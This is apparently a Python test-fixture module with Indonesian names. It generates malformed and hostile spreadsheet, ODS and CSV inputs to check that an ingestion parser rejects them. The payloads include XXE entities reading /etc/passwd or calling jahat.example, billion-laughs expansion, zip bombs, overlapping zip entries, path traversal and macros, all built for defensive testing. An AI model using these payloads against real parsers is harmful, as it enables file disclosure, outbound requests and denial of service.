"""Files that are not what their name says, damaged or hostile containers, and text in every encoding."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable

from bahan_aneh import DOKTIP, KEPALA, TAWA, Kasus, Masa, Terima, Tolak, csv_satu, lembar_xml, satu
from bahan_ingest import ods, ods_tabel, ole, xls, xlsx, xlsx_mentah, zip_dari

Pembuat = Callable[[Masa], bytes]
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def buku(masa: Masa) -> bytes:
    return xlsx({"Data": [KEPALA, satu(masa)]})


def mentah(ganti: dict[str, str] | None = None, **tambahan: bytes | str) -> Pembuat:
    """The smallest workbook with parts put in the place of others, or added (``a__b`` is ``a/b.xml``)."""
    bagian = {nama.replace("__", "/") + ".xml": isi for nama, isi in tambahan.items()}
    return lambda masa: xlsx_mentah(lembar_xml(masa), bagian, ganti)  # type: ignore[arg-type]


def dengan(nama: str, isi: bytes | str) -> Pembuat:
    return lambda masa: xlsx_mentah(lembar_xml(masa), {nama: isi})  # type: ignore[dict-item]


def _teks_bersama(xml: str | bytes) -> Pembuat:
    return dengan("xl/sharedStrings.xml", xml)


def _zip_ulang(isi: bytes, cara: int) -> bytes:
    """The same parts, compressed in another way."""
    wadah = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(isi)) as dari, zipfile.ZipFile(wadah, "w", cara) as ke:
        for nama in dari.namelist():
            ke.writestr(nama, dari.read(nama))
    return wadah.getvalue()


def _ubah_entri(isi: bytes, geser_pusat: int, geser_lokal: int, kode: str, nilai: int) -> bytes:
    """One field of the last entry, in the directory and in its own header."""
    hasil = bytearray(isi)
    for tanda, geser in ((b"PK\x01\x02", geser_pusat), (b"PK\x03\x04", geser_lokal)):
        struct.pack_into(kode, hasil, hasil.rfind(tanda) + geser, nilai)
    return bytes(hasil)


def _berbohong(_: Masa) -> bytes:
    """An entry that says it unpacks to 10 bytes and gives 70 MB."""
    isi = zip_dari({"[Content_Types].xml": "<Types/>", "xl/worksheets/sheet1.xml": b" " * (70 << 20)})
    return _ubah_entri(isi, 24, 22, "<I", 10)


def _dua_kali(nama: str, kedua: Callable[[bytes], bytes]) -> Pembuat:
    """The sheet's part twice in the zip, the second time under ``nama``."""

    def buat(masa: Masa) -> bytes:
        wadah = io.BytesIO(xlsx_mentah(lembar_xml(masa)))
        with zipfile.ZipFile(wadah, "a") as arsip:
            asli = arsip.read("xl/worksheets/sheet1.xml")
            with warnings.catch_warnings(action="ignore"):
                arsip.writestr(nama, kedua(asli))
        return wadah.getvalue()

    return buat


def _tindih(masa: Masa) -> bytes:
    """Two directory entries that share the bytes of one: the second begins inside the first."""
    isi = bytearray(xlsx_mentah(lembar_xml(masa), {"xl/lain.xml": b"<a/>"}))
    pusat = [i for i in range(len(isi)) if isi.startswith(b"PK\x01\x02", i)]
    (pertama,) = struct.unpack_from("<I", isi, pusat[0] + 42)
    struct.pack_into("<I", isi, pusat[-1] + 42, pertama + 10)
    return bytes(isi)


def _direktori_raksasa(_: Masa) -> bytes:
    kepala = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    jumlah = 60_000
    akhir = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, jumlah & 0xFFFF, jumlah & 0xFFFF, len(kepala) * jumlah, 0, 0)
    return b"PK\x03\x04" + kepala * jumlah + akhir


def _di_dalam(isi: Pembuat) -> Pembuat:
    return lambda masa: zip_dari({"dalam.xlsx": isi(masa), "lagi.zip": zip_dari({"nol": b"0" * (61 << 20)})})


def _entitas(luar: str) -> Pembuat:
    """XXE: an external entity in the place of the unit's name."""
    return lambda masa: xlsx_mentah(
        lembar_xml(masa), ganti={"xl/worksheets/sheet1.xml": f'<!DOCTYPE a [{luar}]><worksheet xmlns="{NS}"/>'}
    )


def _bagian_lain(nama: str) -> Pembuat:
    """The sheet in a part of another name than a sheet has, with laughs in it."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    paket = "http://schemas.openxmlformats.org/package/2006/relationships"
    rels = f'<Relationships xmlns="{paket}"><Relationship Id="r1" Type="{rel}" Target="/{nama}"/></Relationships>'
    isi = f'{TAWA}<worksheet xmlns="{NS}"><a>&lol9;</a></worksheet>'
    return lambda masa: xlsx_mentah(lembar_xml(masa), {nama: isi.encode()}, ganti={"xl/_rels/workbook.xml.rels": rels})


def _ods_isi(isi: str, **bagian: bytes) -> Pembuat:
    return lambda _: zip_dari(
        {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": isi}
        | {nama.replace("__", "/"): data for nama, data in bagian.items()}
    )


def _ods_satu(masa: Masa) -> bytes:
    return ods(ods_tabel("A", [KEPALA, satu(masa)]))


def _ods_tambah(nama: str, isi: bytes | str) -> Pembuat:
    def buat(masa: Masa) -> bytes:
        wadah = io.BytesIO(_ods_satu(masa))
        with zipfile.ZipFile(wadah, "a") as arsip:
            arsip.writestr(nama, isi)
        return wadah.getvalue()

    return buat


def teks(ubah: Callable[[str], bytes] = str.encode) -> Pembuat:
    return lambda masa: ubah(csv_satu(masa))


_JENIS_MAKRO = {"[Content_Types].xml": '<Types a="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'}
_BOM_BANYAK = {f"xl/media/{i}.png": b"\0" * (1 << 20) for i in range(70)}

BUKAN_TABEL: tuple[Kasus, ...] = (
    Kasus("kosong.csv", b"", Tolak("berkas_kosong")),
    Kasus("hanya_spasi.csv", b"\xef\xbb\xbf \r\n\t\n", Tolak("berkas_kosong")),
    Kasus("hanya_bom.csv", b"\xef\xbb\xbf", Tolak("berkas_kosong")),
    Kasus("web.xls", b"<html><table><tr><td>periode</td></tr></table></html>", Tolak("halaman_web")),
    Kasus("web_bom.xls", b"\xef\xbb\xbf\n  <TABLE><tr></tr></TABLE>", Tolak("halaman_web")),
    Kasus("web_utf16.xls", "<html><table></table></html>".encode("utf-16"), Tolak("halaman_web")),
    Kasus("xml2003.xls", b'<?xml version="1.0"?><Workbook></Workbook>', Tolak("halaman_web")),
    Kasus("mhtml.xls", b"MIME-Version: 1.0\nContent-Type: multipart/related", Tolak("halaman_web")),
    Kasus("surat.csv", b"%PDF-1.7\n...", Tolak("bukan_tabel")),
    Kasus("foto.xlsx", b"\x89PNG\r\n\x1a\n\0\0", Tolak("bukan_tabel")),
    Kasus("foto.csv", b"\xff\xd8\xff\xe0\0\x10JFIF", Tolak("bukan_tabel")),
    Kasus("gambar.ods", b"GIF89a\x01\0\x01\0", Tolak("bukan_tabel")),
    Kasus("surat.xls", b"{\\rtf1\\ansi periode;unit}", Tolak("bukan_tabel")),
    Kasus("data.csv.gz", b"\x1f\x8b\x08\0\0", Tolak("bukan_tabel")),
    Kasus("arsip.xlsx", b"Rar!\x1a\x07\0", Tolak("bukan_tabel")),
    Kasus("arsip7.xlsx", b"7z\xbc\xaf\x27\x1c\0\x04", Tolak("bukan_tabel")),
    Kasus("data.parquet", b"PAR1\x15\x04", Tolak("bukan_tabel")),
    Kasus("data.db.csv", b"SQLite format 3\0", Tolak("bukan_tabel")),
    Kasus("surat.docx", zip_dari({"[Content_Types].xml": "<a/>", "word/document.xml": "<w/>"}), Tolak("bukan_tabel")),
    Kasus(
        "rapat.xlsx", zip_dari({"[Content_Types].xml": "<a/>", "ppt/presentation.xml": "<p/>"}), Tolak("bukan_tabel")
    ),
    Kasus("surat.ods", zip_dari({"mimetype": "application/vnd.oasis.opendocument.text"}), Tolak("bukan_tabel")),
    Kasus("biner.xlsx", zip_dari({"[Content_Types].xml": "<a/>", "xl/workbook.bin": b"\0"}), Tolak("bukan_tabel")),
    Kasus("surat.doc", lambda _: ole({"WordDocument": b"\0" * 4096}), Tolak("bukan_tabel")),
    Kasus("catatan.xlsx", zip_dari({"catatan.txt": "halo"}), Tolak("zip_lain")),
    Kasus("kosong.xlsx", b"PK\x05\x06" + b"\0" * 18, Tolak("zip_lain")),
    Kasus("bertingkat.xlsx", _di_dalam(buku), Tolak("zip_lain")),
    Kasus("terlalu_besar.xlsx", b"PK\x03\x04" + b"\0" * (11 << 20), Tolak("terlalu_besar")),
)

RUSAK_DAN_JAHAT: tuple[Kasus, ...] = (
    Kasus("terpotong.xlsx", lambda m: buku(m)[:400], Tolak("rusak")),
    Kasus("tanpa_ekor.xlsx", lambda m: buku(m)[:-30], Tolak("rusak")),
    Kasus("tanpa_buku.xlsx", zip_dari({"[Content_Types].xml": "<a/>", "xl/worksheets/a.xml": "<a/>"}), Tolak("rusak")),
    Kasus("xml_rusak.xlsx", lambda _: xlsx_mentah("<sheetData><row></sheetData>"), Tolak("rusak")),
    Kasus("lembar_hilang.xlsx", mentah({"xl/_rels/workbook.xml.rels": "<Relationships/>"}), Tolak("rusak")),
    Kasus("rusak.xls", lambda _: ole({"Workbook": b"\x01\x02" * 4096}), Tolak("rusak")),
    Kasus("isi_hilang.ods", _ods_isi("<a"), Tolak("rusak")),
    Kasus("makro.xlsx", dengan("xl/vbaProject.bin", b"x"), Tolak("makro")),
    Kasus("makro_besar.xlsx", dengan("XL/VBAPROJECT.BIN", b"x"), Tolak("makro")),
    Kasus("makro_nama_lain.xlsx", mentah(_JENIS_MAKRO), Tolak("makro")),
    Kasus("makro_lembar.xlsx", dengan("xl/macrosheets/sheet1.xml", b"<a/>"), Tolak("makro")),
    Kasus("makro.xls", lambda _: ole({"Workbook": b"\0" * 4096, "_VBA_PROJECT_CUR": b"\0" * 4096}), Tolak("makro")),
    Kasus("makro.ods", _ods_tambah("Basic/Standard/Module1.xml", b"<a/>"), Tolak("makro")),
    Kasus("makro_python.ods", _ods_tambah("Scripts/python/a.py", b"import os"), Tolak("makro")),
    Kasus("sandi.xlsx", lambda _: ole({"EncryptedPackage": b"\0" * 4096}), Tolak("bersandi")),
    Kasus("sandi_zip.xlsx", lambda m: _ubah_entri(buku(m), 8, 6, "<H", 1), Tolak("bersandi")),
    Kasus("sandi.ods", _ods_isi("x", **{"META-INF__manifest.xml": b"<a><encryption-data/></a>"}), Tolak("bersandi")),
    Kasus("entri_banyak.xlsx", lambda _: zip_dari({f"a/{i}": "" for i in range(2100)}), Tolak("zip_entri")),
    Kasus("direktori_raksasa.xlsx", _direktori_raksasa, Tolak("zip_entri")),
    Kasus("bom.xlsx", dengan("xl/theme.xml", b"0" * (61 << 20)), Tolak("zip_mengembang")),
    Kasus("bom_banyak.xlsx", lambda m: xlsx_mentah(lembar_xml(m), _BOM_BANYAK), Tolak("zip_mengembang")),
    Kasus("bom_berbohong.xlsx", _berbohong, Tolak("rusak")),
    Kasus(
        "kembar.xlsx",
        _dua_kali("xl/worksheets/sheet1.xml", lambda b: b.replace(b"10", b"19")),
        Tolak("zip_ganda", "xl/worksheets/sheet1.xml"),
    ),
    Kasus(
        "kembar_huruf.xlsx",
        _dua_kali("XL/Worksheets/Sheet1.xml", lambda b: b + b" "),
        Tolak("zip_ganda", "XL/Worksheets/Sheet1.xml"),
    ),
    Kasus("kembar_sama.xlsx", _dua_kali("xl/worksheets/sheet1.xml", lambda b: b), Terima()),
    Kasus("tindih.xlsx", _tindih, Tolak("rusak")),
    Kasus("bzip2.xlsx", lambda m: _zip_ulang(buku(m), zipfile.ZIP_BZIP2), Tolak("zip_cara", "docProps/app.xml")),
    Kasus("lzma.xlsx", lambda m: _zip_ulang(buku(m), zipfile.ZIP_LZMA), Tolak("zip_cara", "docProps/app.xml")),
    Kasus("cara_asing.xlsx", lambda m: _ubah_entri(buku(m), 10, 8, "<H", 97), Tolak("zip_cara", "[Content_Types].xml")),
    Kasus("tak_dimampatkan.xlsx", lambda m: _zip_ulang(buku(m), zipfile.ZIP_STORED), Terima()),
    Kasus("keluar_folder.xlsx", dengan("../../jahat.txt", b"x"), Terima()),
    Kasus("zip_di_dalam.xlsx", dengan("xl/embeddings/a.zip", zip_dari({"nol": b"0" * (61 << 20)})), Terima()),
)

_XML: tuple[tuple[str, Pembuat, str], ...] = (
    ("doctype.xlsx", mentah({"xl/workbook.xml": DOKTIP + "<workbook/>"}), "xl/workbook.xml"),
    ("xxe_berkas.xlsx", _entitas('<!ENTITY x SYSTEM "file:///etc/passwd">'), "xl/worksheets/sheet1.xml"),
    ("xxe_http.xlsx", _entitas('<!ENTITY x SYSTEM "http://jahat.example/a">'), "xl/worksheets/sheet1.xml"),
    (
        "xxe_parameter.xlsx",
        _entitas('<!ENTITY % p SYSTEM "http://jahat.example/a.dtd"> %p;'),
        "xl/worksheets/sheet1.xml",
    ),
    ("entitas_saja.xlsx", _teks_bersama(' <!ENTITY a "b"><sst/>'), "xl/sharedstrings.xml"),
    ("tawa.xlsx", _teks_bersama(f"{TAWA}<sst><si><t>&lol9;</t></si></sst>"), "xl/sharedstrings.xml"),
    ("utf16.xlsx", _teks_bersama((DOKTIP + "<sst/>").encode("utf-16")), "xl/sharedstrings.xml"),
    ("utf16_be.xlsx", _teks_bersama((DOKTIP + "<sst/>").encode("utf-16-be")), "xl/sharedstrings.xml"),
    ("sandi_lain.xlsx", dengan("xl/theme.xml", b'<?xml version="1.0" encoding="cp037"?><a/>'), "xl/theme.xml"),
    ("sandi_utf7.xlsx", dengan("xl/theme.xml", b"<?xml version='1.0' encoding = 'UTF-7' ?>+ADw-"), "xl/theme.xml"),
    ("tawa_nama_lain.xlsx", _bagian_lain("xl/lembar.dat"), "xl/lembar.dat"),
    ("tawa_customxml.xlsx", _bagian_lain("customXml/item1.xml"), "customxml/item1.xml"),
    ("tawa.ods", _ods_isi(f"{TAWA}<office>&lol9;</office>"), "content.xml"),
    ("xxe.ods", _ods_tambah("styles.xml", '<!DOCTYPE a SYSTEM "http://jahat.example/a.dtd"><a/>'), "styles.xml"),
)
XML_JAHAT: tuple[Kasus, ...] = (
    *(Kasus(nama, isi, Tolak("xml_berbahaya", bagian)) for nama, isi, bagian in _XML),
    Kasus("customxml_utf16.xlsx", dengan("customXml/item1.xml", "<a>kueri</a>".encode("utf-16")), Terima()),
    Kasus(
        "utf16_kalimat.xlsx", dengan("xl/theme.xml", "<a/>".encode("utf-16")), Tolak("xml_berbahaya", "xl/theme.xml")
    ),
)

TEKS: tuple[Kasus, ...] = (
    Kasus("biner.csv", b"periode;unit\n2026\x00;x", Tolak("biner")),
    Kasus("utf16_tanpa_bom.csv", teks(lambda t: t.encode("utf-16-le")), Tolak("biner")),
    Kasus("utf32.csv", teks(lambda t: t.encode("utf-32")), Tolak("biner")),
    Kasus("utf16_bernol.csv", "periode;unit\x00".encode("utf-16"), Tolak("biner")),
    Kasus("huruf_aneh.csv", b"periode;unit\n\x81\x8d;x\n", Tolak("sandi_teks")),
    Kasus("bom.csv", teks(lambda t: b"\xef\xbb\xbf" + t.encode()), Terima()),
    Kasus("utf16_le.csv", teks(lambda t: b"\xff\xfe" + t.encode("utf-16-le")), Terima()),
    Kasus("utf16_be.csv", teks(lambda t: b"\xfe\xff" + t.encode("utf-16-be")), Terima()),
    Kasus(
        "cp1252.csv",
        teks(lambda t: t.replace("penyebut", "penyebut;catatan").replace("20\n", "20;café\n").encode("cp1252")),
        Terima(),
    ),
    Kasus("crlf.csv", teks(lambda t: t.replace("\n", "\r\n").encode()), Terima()),
    Kasus("cr.csv", teks(lambda t: t.replace("\n", "\r").encode()), Terima()),
    Kasus("ganti_baris_campur.csv", teks(lambda t: t.replace("\n", "\r\n", 1).encode() + b"\r\r\n\n"), Terima()),
    Kasus("tanpa_baris_akhir.csv", teks(lambda t: t.rstrip().encode()), Terima()),
    Kasus("koma.csv", teks(lambda t: t.replace(";", ",").encode()), Terima()),
    Kasus("tab.txt", teks(lambda t: t.replace(";", "\t").encode()), Terima()),
    Kasus("petunjuk.csv", teks(lambda t: b"sep=;\n" + t.encode()), Terima()),
    Kasus("petunjuk_pipa.csv", teks(lambda t: b"sep=|\r\n" + t.replace(";", "|").encode()), Terima()),
    Kasus("awalan_PK.csv", teks(lambda t: ("PKM;" + t).replace("\n", "\nx;", 1).encode()), Terima()),
    Kasus("salah_nama.csv", buku, Terima(catatan=("ekstensi_keliru",))),
    Kasus("salah_nama_ods.csv", _ods_satu, Terima(catatan=("ekstensi_keliru",))),
    Kasus("salah_nama_xlsx.xls", buku, Terima(catatan=("ekstensi_keliru",))),
    Kasus("salah_nama_csv.xls", teks(), Terima(catatan=("ekstensi_keliru",))),
    Kasus("salah_nama_xls.xlsx", lambda m: xls([KEPALA, satu(m)]), Terima(catatan=("ekstensi_keliru",))),
    Kasus("salah_nama_ods.xls", _ods_satu, Terima(catatan=("ekstensi_keliru",))),
    Kasus("lembar.ods", _ods_satu, Terima()),
    Kasus("lama.xls", lambda m: xls([KEPALA, satu(m)]), Terima()),
)

WADAH = (*BUKAN_TABEL, *RUSAK_DAN_JAHAT, *XML_JAHAT, *TEKS)
